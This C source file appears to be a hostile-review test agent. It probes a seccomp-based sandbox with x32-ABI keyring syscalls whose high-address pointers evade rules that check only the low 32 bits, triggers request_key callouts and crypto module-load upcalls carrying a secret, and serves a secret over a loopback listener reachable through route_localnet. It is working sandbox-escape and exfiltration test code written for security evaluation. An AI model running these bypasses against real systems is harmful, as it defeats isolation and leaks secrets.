/* ha70-agent: hostile review h-attack70, issue 11's classes as fresh
 * variants against da918e4. One static binary, a mode a run; prints
 * "ha70 MODE ..." lines with each call's answer.
 *
 *   ha70-agent x32-rk SECRET hi|lo
 *       request_key("user", "ha70:SECRET", callout) on the x32 ABI
 *       (nr 249 | 0x40000000), callout the string SECRET. hi: the string
 *       is at 0x100000000, a pointer whose low 32 bits are 0; lo: in the
 *       binary's data (the control). libseccomp builds x32 rules as a
 *       32-bit architecture (arch-x32.c: ARCH_SIZE_32) and compares only
 *       the low word of an argument, while the x32 entry of request_key is
 *       the native one and reads all 64 bits of the pointer.
 *   ha70-agent x32-kdf SECRET hi|lo
 *       keyctl(KEYCTL_DH_COMPUTE, params, buf, 64, kdf) on the x32 ABI,
 *       kdf (its hash name SECRET) at 0x100000000 (hi) or in the data
 *       (lo): the hash is allocated before any key is looked up, and an
 *       unknown one runs kernel.modprobe for "crypto-SECRET".
 *   ha70-agent x32-addkey SECRET hi|lo
 *       add_key("user", "ha70:SECRET", payload, len, KEY_SPEC_PROCESS_KEYRING)
 *       on the x32 ABI, the payload at 0x100000000 (hi) or in the data
 *       (lo): shows the rule's blindness only (the "user" type allocates
 *       nothing by name; an "asymmetric" certificate would).
 *   ha70-agent x32-rk|x32-kdf SECRET null
 *       the same calls with the pointer NULL (no callout, no KDF): no
 *       upcall, and a supervisor that traps x32's calls whole must let
 *       them go on (ENOKEY, and EINVAL or ENOKEY for the DH keys 1-3).
 *
 *   ha70-agent listen-lo PORT SECRET
 *       listen on 127.0.0.1:PORT (allowed: a loopback listener, "only local
 *       processes reach a loopback address"), accept one peer within 20 s,
 *       print its address and write SECRET to it. Where an interface has
 *       net.ipv4.conf.IF.route_localnet=1 (kube-proxy's setting before
 *       CVE-2020-8558's fix, some container hosts), a neighbour on that
 *       link reaches 127.0.0.1 too.
 *
 * Apart from listen-lo, nothing here sends to the network itself: the ground truth is the sink of
 * the cell's stand-in helper (key-upcall's, modprobe-name's).
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <linux/keyctl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#define X32 0x40000000L
/* arch/x86/entry/syscalls/syscall_64.tbl: common entries, the x32 table
 * reaches the native handler with the same number. */
#define NR_ADD_KEY 248
#define NR_REQUEST_KEY 249
#define NR_KEYCTL 250
#define HIGH ((void *)0x100000000UL)

struct kdf_params {
	char *hashname;
	char *otherinfo;
	uint32_t otherinfolen;
	uint32_t spare[8];
};

/* A page at HIGH (hi) or a static buffer (lo) to hold n bytes. */
static void *place(const char *where, size_t n)
{
	static char low[4096] __attribute__((aligned(64)));
	void *p;

	if (strcmp(where, "lo") == 0)
		return n <= sizeof(low) ? low : NULL;
	p = mmap(HIGH, 4096, PROT_READ | PROT_WRITE,
		 MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
	if (p != HIGH) {
		printf("ha70 mmap at %p failed: %s\n", HIGH, strerror(errno));
		return NULL;
	}
	return p;
}

static int x32_rk(const char *secret, const char *where)
{
	char desc[256];
	int none = strcmp(where, "null") == 0;
	char *callout = none ? NULL : place(where, strlen(secret) + 1);
	long r;

	if (!callout && !none)
		return 2;
	if (callout)
		strcpy(callout, secret);
	snprintf(desc, sizeof(desc), "ha70:%s", secret);
	errno = 0;
	r = syscall(X32 | NR_REQUEST_KEY, "user", desc, callout, KEY_SPEC_PROCESS_KEYRING);
	printf("ha70 x32-rk %s callout=%p -> %ld %s\n", where, (void *)callout, r,
	       r < 0 ? strerror(errno) : "ok");
	return 0;
}

static int x32_kdf(const char *secret, const char *where)
{
	static char hash[128], buf[64];
	static struct keyctl_dh_params params = {.private = 1, .prime = 2, .base = 3};
	int none = strcmp(where, "null") == 0;
	struct kdf_params *kdf = none ? NULL : place(where, sizeof(*kdf));
	long r;

	if (!kdf && !none)
		return 2;
	snprintf(hash, sizeof(hash), "%s", secret);
	if (kdf) {
		memset(kdf, 0, sizeof(*kdf));
		kdf->hashname = hash;
	}
	errno = 0;
	r = syscall(X32 | NR_KEYCTL, KEYCTL_DH_COMPUTE, &params, buf, sizeof(buf), kdf);
	printf("ha70 x32-kdf %s kdf=%p -> %ld %s\n", where, (void *)kdf, r,
	       r < 0 ? strerror(errno) : "ok");
	return 0;
}

static int x32_addkey(const char *secret, const char *where)
{
	char desc[256];
	size_t n = strlen(secret);
	char *payload = place(where, n);
	long r;

	if (!payload)
		return 2;
	memcpy(payload, secret, n);
	snprintf(desc, sizeof(desc), "ha70:%s", secret);
	errno = 0;
	r = syscall(X32 | NR_ADD_KEY, "user", desc, payload, n, KEY_SPEC_PROCESS_KEYRING);
	printf("ha70 x32-addkey %s payload=%p -> %ld %s\n", where, (void *)payload, r,
	       r < 0 ? strerror(errno) : "ok");
	return 0;
}

static int listen_lo(const char *port, const char *secret)
{
	struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(port))};
	struct sockaddr_in peer;
	socklen_t plen = sizeof(peer);
	struct pollfd p;
	char who[INET_ADDRSTRLEN] = "?";
	int one = 1, s = socket(AF_INET, SOCK_STREAM, 0), c;
	ssize_t n;

	a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(s, (struct sockaddr *)&a, sizeof(a)) != 0 || listen(s, 4) != 0) {
		printf("ha70 listen-lo bind/listen: %s\n", strerror(errno));
		return 1;
	}
	printf("ha70 listen-lo listening on 127.0.0.1:%s\n", port);
	p.fd = s;
	p.events = POLLIN;
	if (poll(&p, 1, 20000) != 1) {
		printf("ha70 listen-lo no peer\n");
		return 1;
	}
	c = accept(s, (struct sockaddr *)&peer, &plen);
	if (c < 0) {
		printf("ha70 listen-lo accept: %s\n", strerror(errno));
		return 1;
	}
	inet_ntop(AF_INET, &peer.sin_addr, who, sizeof(who));
	n = write(c, secret, strlen(secret));
	printf("ha70 listen-lo peer %s:%u wrote %zd\n", who, ntohs(peer.sin_port), n);
	close(c);
	return 0;
}

int main(int argc, char **argv)
{
	int rc = 2;

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 4 && strcmp(argv[1], "x32-rk") == 0)
		rc = x32_rk(argv[2], argv[3]);
	else if (argc == 4 && strcmp(argv[1], "x32-kdf") == 0)
		rc = x32_kdf(argv[2], argv[3]);
	else if (argc == 4 && strcmp(argv[1], "x32-addkey") == 0)
		rc = x32_addkey(argv[2], argv[3]);
	else if (argc == 4 && strcmp(argv[1], "listen-lo") == 0)
		rc = listen_lo(argv[2], argv[3]);
	else
		fprintf(stderr, "usage: ha70-agent listen-lo PORT SECRET | "
				"x32-rk|x32-kdf|x32-addkey SECRET hi|lo|null\n");
	return rc;
}
